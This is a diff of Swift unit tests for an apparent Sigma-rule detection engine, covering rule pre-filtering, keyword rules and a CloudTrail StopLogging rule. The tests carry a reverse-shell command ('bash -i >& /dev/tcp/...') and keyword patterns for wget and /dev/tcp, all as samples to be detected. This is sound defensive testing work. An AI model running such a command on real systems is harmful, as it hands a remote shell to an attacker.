@@ -115,18 +115,55 @@ struct SigmaRuleSetTests {
         #expect(set.matches(try SigmaTestSupport.record(#"{"source":"/other","data":{"a":"x"}}"#)).isEmpty)
     }
 
-    @Test func preFiltersNeverUseValuesANumberCouldMatch() throws {
+    @Test func numericValuesArePreFilteredAsStringsAndNumbers() throws {
         let rule = try SigmaTestSupport.rule("s:\n  code: '403'\ncondition: s")
         let set = SigmaRuleSet(rules: [rule])
-        #expect(set.alwaysEvaluatedRules == [0])
+        #expect(set.alwaysEvaluatedRules.isEmpty)
         #expect(set.matches(try SigmaTestSupport.record(#"{"code":403}"#)) == [0])
+        #expect(set.matches(try SigmaTestSupport.record(#"{"code":"403"}"#)) == [0])
+        #expect(set.matches(try SigmaTestSupport.record(#"{"code":403.0}"#)).isEmpty)
+        #expect(set.matches(try SigmaTestSupport.record(#"{"code":404}"#)).isEmpty)
     }
 
-    @Test func preFiltersNeverUseDottedFields() throws {
+    @Test func valuesABooleanOrObjectCouldMatchAreNotPreFiltered() throws {
+        let rule = try SigmaTestSupport.rule("s:\n  - flag: 'true'\n  - body|startswith: '{'\ncondition: s")
+        let set = SigmaRuleSet(rules: [rule])
+        #expect(set.alwaysEvaluatedRules == [0])
+        #expect(set.matches(try SigmaTestSupport.record(#"{"flag":true}"#)) == [0])
+        #expect(set.matches(try SigmaTestSupport.record(#"{"body":{"a":1}}"#)) == [0])
+    }
+
+    @Test func dottedPreFiltersStillMatchARecordThatSpellsTheFieldAsOneMember() throws {
         let rule = try SigmaTestSupport.rule("s:\n  a.b: x\ncondition: s")
         let set = SigmaRuleSet(rules: [rule])
+        #expect(set.alwaysEvaluatedRules.isEmpty)
+        #expect(set.matches(try SigmaTestSupport.record(#"{"a":{"b":"y"}}"#)).isEmpty)
         #expect(set.matches(try SigmaTestSupport.record(#"{"a.b":"x"}"#)) == [0])
         #expect(set.matches(try SigmaTestSupport.record(#"{"a":{"b":"X"}}"#)) == [0])
+    }
+
+    @Test func keywordRulesAreEvaluatedOnlyWhenANeedleOccurs() throws {
+        let rule = try SigmaTestSupport.rule("k:\n  - 'wget http*'\n  - '/dev/tcp'\ncondition: k")
+        let set = SigmaRuleSet(rules: [rule])
+        #expect(set.alwaysEvaluatedRules.isEmpty)
+        #expect(set.matches(.string("bash -i >& /DEV/TCP/10.0.0.1/4242")) == [0])
+        #expect(set.matches(try SigmaTestSupport.record(#"{"cmd":["x","WGET https://x"]}"#)) == [0])
+        #expect(set.matches(try SigmaTestSupport.record(#"{"cmd":"wget ftp://x","wget http":1}"#)).isEmpty)
+    }
+
+    @Test func conjunctivePreFiltersStillMatchFieldsInDifferentElementsOfArrayData() throws {
+        let text = SigmaTestSupport.ruleText(
+            "s:\n  eventSource: cloudtrail.amazonaws.com\n  eventName: StopLogging\ncondition: s",
+            logsource: "product: aws\n    service: cloudtrail"
+        )
+        let rule = try #require(SigmaCollection(text: text, file: "r.yml").rules.first)
+        let set = SigmaRuleSet(rules: [rule], mode: .events(.defaults))
+        let split =
+            #"{"source":"/aws/cloudtrail/1/r","data":[{"eventName":"StopLogging"},{"eventSource":"cloudtrail.amazonaws.com"}]}"#
+        #expect(set.matches(try SigmaTestSupport.record(split)) == [0])
+        let other =
+            #"{"source":"/aws/cloudtrail/1/r","data":{"eventName":"StopLogging","eventSource":"s3.amazonaws.com"}}"#
+        #expect(set.matches(try SigmaTestSupport.record(other)).isEmpty)
     }
 }
 
